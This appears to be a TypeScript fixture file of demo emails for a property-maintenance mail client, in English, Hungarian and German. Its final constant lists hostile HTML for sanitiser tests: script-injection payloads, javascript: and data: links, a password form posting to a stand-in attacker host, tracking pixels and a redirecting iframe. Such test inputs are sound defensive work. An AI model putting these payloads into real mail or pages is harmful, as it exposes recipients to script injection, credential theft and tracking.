/**
 * Texts of the demo mails: conversations a property-maintenance office has every day, in English,
 * Hungarian and German, some as HTML. One body is hostile on purpose, to show the sanitiser at work.
 */
export interface Correspondent {
  name: string;
  address: string;
}

export const CORRESPONDENTS: Correspondent[] = [
  { name: 'Harriet Cole', address: 'harriet.cole@parkview-lettings.example' },
  { name: 'Tom Baxter', address: 'tom@baxterplumbing.example' },
  { name: 'Kovács Anna', address: 'kovacs.anna@hazkezelo.example' },
  { name: 'Nagy Péter', address: 'nagy.peter@epuletgond.example' },
  { name: 'Sophie Turner', address: 'sophie.turner@riverside-homes.example' },
  { name: 'Jürgen Weber', address: 'j.weber@weber-haustechnik.example' },
  { name: 'Priya Shah', address: 'priya.shah@citycouncil.example' },
  { name: 'Mark Ellis', address: 'mark.ellis@ellis-electrical.example' },
  { name: 'Szabó Gábor', address: 'szabo.gabor@tarsashaz.example' },
  { name: 'Emma Clarke', address: 'emma.clarke@gmail.example' },
];

export interface Topic {
  subject: string;
  lang: 'en' | 'hu' | 'de';
  first: string;
  answers: string[];
  html?: boolean;
}

export const TOPICS: Topic[] = [
  {
    subject: 'Leaking radiator in flat 4B',
    lang: 'en',
    first:
      'Hello,\n\nThe tenant in flat 4B reports that the radiator in the living room is leaking onto the floor. Could you send someone this week?\n\nThanks,',
    answers: [
      'We can send an engineer on Thursday morning. Is access arranged with the tenant?',
      'Yes, the tenant will be in from 8 am. Thank you.',
      'Confirmed for Thursday 8:30. The engineer will call 30 minutes before arrival.',
    ],
  },
  {
    subject: 'Quote request: roof repair at Elm Court',
    lang: 'en',
    first: 'Dear team,\n\nWe need a quote to repair the flat roof above the bin store at Elm Court. Photos attached from last week.\n\nKind regards,',
    answers: [
      'Thank you, we will visit on Monday to measure up and send the quote by Wednesday.',
      'Please find the quote in the portal. The price includes the skip and scaffolding.',
    ],
    html: true,
  },
  {
    subject: 'Csőtörés a pincében',
    lang: 'hu',
    first: 'Tisztelt Cím!\n\nA Rákóczi úti társasház pincéjében csőtörés történt, a víz elzárva. Kérem, minél előbb küldjenek szerelőt.\n\nÜdvözlettel,',
    answers: ['Köszönjük a bejelentést, a szerelő ma délután 3 órára érkezik.', 'A javítás elkészült, a víz visszakapcsolva. A számlát hamarosan küldjük.'],
  },
  {
    subject: 'Éves kazánkarbantartás',
    lang: 'hu',
    first: 'Jó napot!\n\nSzeretnénk időpontot egyeztetni az éves kazánkarbantartásra a Petőfi utcai lakásban.\n\nKöszönettel,',
    answers: ['Jövő kedden 10 és 12 óra között megfelelne?', 'Igen, a kedd megfelel. Köszönöm!'],
    html: true,
  },
  {
    subject: 'Invoice INV-2041 overdue',
    lang: 'en',
    first: 'Hi,\n\nOur records show invoice INV-2041 is now 30 days overdue. Could you confirm when payment will be made?\n\nBest,',
    answers: ['Apologies, this was held for a missing PO. Payment is scheduled for Friday.'],
  },
  {
    subject: 'Wartung der Lüftungsanlage',
    lang: 'de',
    first: 'Guten Tag,\n\ndie jährliche Wartung der Lüftungsanlage im Objekt Hauptstraße 12 steht an. Wann passt es Ihnen?\n\nMit freundlichen Grüßen',
    answers: ['Vielen Dank, der 14. passt uns gut.', 'Bestätigt. Unser Techniker kommt um 9 Uhr.'],
  },
  {
    subject: 'Gas safety certificate renewal',
    lang: 'en',
    first: 'Good morning,\n\nThe gas safety certificate for 27 Mill Lane expires at the end of the month. Please book the inspection.\n\nRegards,',
    answers: ['Booked for the 19th, between 1 and 3 pm.', 'Certificate issued and uploaded to the job documents.'],
    html: true,
  },
  {
    subject: 'Broken entry phone at Riverside block C',
    lang: 'en',
    first: 'Hello,\n\nResidents of block C say the entry phone has not worked since the weekend. Several deliveries were missed.\n\nThanks,',
    answers: ['Our electrician will attend tomorrow and replace the handset if needed.', 'The panel needed a new power supply; it is working again.'],
  },
  {
    subject: 'Lépcsőház festése – árajánlat',
    lang: 'hu',
    first: 'Kedves Kolléga!\n\nKérnénk árajánlatot a B épület lépcsőházának festésére (négy emelet).\n\nÜdvözlettel,',
    answers: [
      'Az árajánlatot csatoltuk, a munka két hetet vesz igénybe.',
      'Köszönjük, a közgyűlés jóváhagyta. Mikor tudnak kezdeni?',
      'A jövő hónap első hetében kezdünk.',
    ],
  },
  {
    subject: 'Damp and mould complaint',
    lang: 'en',
    first:
      'Dear Sir or Madam,\n\nI am writing again about the damp in my bedroom. The mould has come back and my child has asthma. Please treat this as urgent.\n\nEmma',
    answers: [
      'We are sorry to hear this. A surveyor will visit on Tuesday to find the cause.',
      'The surveyor found a blocked gutter; it will be cleared and the wall treated next week.',
    ],
  },
  {
    subject: 'Key collection for void property',
    lang: 'en',
    first: 'Hi,\n\nThe keys for 8 Station Road are at the office. The void works can start from Monday.\n\nCheers,',
    answers: ['Thanks, our team will collect them at 9 on Monday.'],
  },
  {
    subject: 'Heizungsausfall im Erdgeschoss',
    lang: 'de',
    first: 'Hallo,\n\nim Erdgeschoss ist die Heizung seit gestern ausgefallen. Bitte um schnelle Hilfe.\n\nDanke',
    answers: ['Ein Techniker ist unterwegs und sollte gegen 14 Uhr da sein.'],
  },
  {
    subject: 'Tree surgery at Oakfield Gardens',
    lang: 'en',
    first: 'Hello,\n\nThe large oak by the car park is dropping branches onto cars. Can you arrange a tree surgeon?\n\nRegards,',
    answers: ['We have asked our arborist for a date and a quote.', 'Works booked for Saturday morning; the car park will be closed until noon.'],
    html: true,
  },
  {
    subject: 'Ablakcsere a 3. emeleten',
    lang: 'hu',
    first: 'Tisztelt Ügyintéző!\n\nA 3. emeleti lakásban két ablak nem zár rendesen, cserére lenne szükség.\n\nKöszönöm,',
    answers: ['Felmérésre csütörtökön 9 órakor érkezünk.'],
  },
  {
    subject: 'Fire alarm test schedule',
    lang: 'en',
    first: 'Dear all,\n\nPlease find below the fire alarm test schedule for the next quarter. Let us know of any clashes.\n\nThank you,',
    answers: ['The 12th clashes with the lift repair; could we move it to the 13th?', 'Moved to the 13th, same time.'],
    html: true,
  },
];

export const SIGNATURES: Record<Topic['lang'], string> = {
  en: 'Demo Maintenance office',
  hu: 'Demo Maintenance ügyfélszolgálat',
  de: 'Demo Maintenance Büro',
};

const escapeHtml = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** A plain text body as simple mail HTML, as a desktop client would write it. */
export function asHtml(text: string, withLogo: boolean): string {
  const paragraphs = text.split(/\n{2,}/).map((p) => `<p style="margin:0 0 12px 0">${escapeHtml(p).replace(/\n/g, '<br>')}</p>`);
  const logo = withLogo ? '<p><img src="https://images.example.com/logo.png" alt="Company logo" width="120"></p>' : '';
  return `<div style="font-family: Arial, sans-serif; font-size: 14px; color: #222">${paragraphs.join('')}${logo}</div>`;
}

/** Every construct the sanitiser must remove; opened in the client it must stay inert. */
export const HOSTILE_HTML = [
  '<p>Please review the <b>attached invoice</b> urgently.</p>',
  '<script>alert("script")</script>',
  '<img src="x" onerror="alert(\'onerror\')">',
  '<a href="javascript:alert(\'link\')">Open the invoice</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Download</a>',
  '<svg onload="alert(\'svg\')"><circle r="10"></circle></svg>',
  '<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>',
  '<style>body { background: url("https://evil.example/track.png") }</style>',
  '<div style="background-image: url(https://evil.example/pixel.gif)">Tracked</div>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<img src="https://evil.example/pixel.gif" width="1" height="1">',
].join('\n');
